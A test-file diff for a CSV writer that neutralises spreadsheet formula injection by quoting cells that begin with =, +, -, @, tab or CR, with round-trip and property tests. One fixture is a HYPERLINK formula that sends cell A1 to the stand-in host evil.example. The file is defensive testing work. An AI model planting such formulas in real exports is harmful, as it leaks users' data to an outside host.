@@ -1,5 +1,6 @@
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { csvLine, parseCsv } from './csv-parse.js';
+import { csvLine, csvNumber, csvText, parseCsv } from './csv-parse.js';
 
 const fieldsOf = (text: string) => {
   const parsed = parseCsv(text);
@@ -33,5 +34,44 @@ describe('parseCsv', () => {
   it('reads back what csvLine writes', () => {
     const fields = ['plain', 'with, comma', 'with "quote"', 'two\nlines', ''];
     expect(parseCsv(csvLine(fields) + csvLine(['next']))).toMatchObject({ ok: true, records: [{ line: 1, fields }, { line: 3, fields: ['next'] }] });
+  });
+});
+
+describe('cells a spreadsheet would run (decision 219)', () => {
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+
+  it('are written quoted after a single quote, so a spreadsheet shows them as text', () => {
+    expect(csvLine([HYPERLINK, 'A1'])).toBe('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",A1\r\n');
+    for (const cell of ['=1+1', '+39 02', '-2+3', '@SUM(A1)', '\tX', '\rX']) {
+      expect(csvLine([cell]), JSON.stringify(cell)).toBe(`"'${cell}"\r\n`);
+    }
+    // A quote already in front of such a cell gets one more, so reading back stays exact.
+    expect(csvLine(["'=1+1", "''-3"])).toBe('"\'\'=1+1","\'\'\'-3"\r\n');
+  });
+
+  it('leaves other text and the numbers the writer makes itself as they are, negative ones too', () => {
+    expect(csvLine(['RG-TB-00001', "l'Eroica", 'a = b', '', csvNumber('-3'), csvNumber('1234.50'), csvNumber('0')]))
+      .toBe("RG-TB-00001,l'Eroica,a = b,,-3,1234.50,0\r\n");
+    expect(() => csvNumber('=1+1')).toThrow();
+    expect(() => csvNumber('1e3')).toThrow();
+  });
+
+  it('are read back as they were: the quote comes off only in front of such a cell', () => {
+    const read = (text: string) => parseCsv(text).records.map((r) => r.fields.map(csvText));
+    expect(read(csvLine([HYPERLINK, '=1+1', "'=1+1", '\tX', 'plain']))).toEqual([[HYPERLINK, '=1+1', "'=1+1", '\tX', 'plain']]);
+    // A quote the file's author typed before anything else stays: it is the cell's own.
+    expect(read("'abc,'',',\'1\n")).toEqual([["'abc", "''", "'", "'1"]]);
+  });
+
+  it('round-trip any text made of quotes, formula starts, separators and letters', () => {
+    const char = fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ' ', 'a', '1');
+    const cell = fc.array(char, { maxLength: 6 }).map((chars) => chars.join(''));
+    fc.assert(fc.property(fc.array(cell, { minLength: 1, maxLength: 4 }), (cells) => {
+      const written = csvLine(cells);
+      const parsed = parseCsv(written);
+      const fields = cells.length === 1 && cells[0] === '' ? [] : [cells];
+      expect(parsed.records.map((r) => r.fields.map(csvText))).toEqual(fields);
+      for (const field of parsed.records[0]?.fields ?? []) expect(field).not.toMatch(/^[=+\-@\t\r]/);
+    }), { numRuns: 2000 });
   });
 });
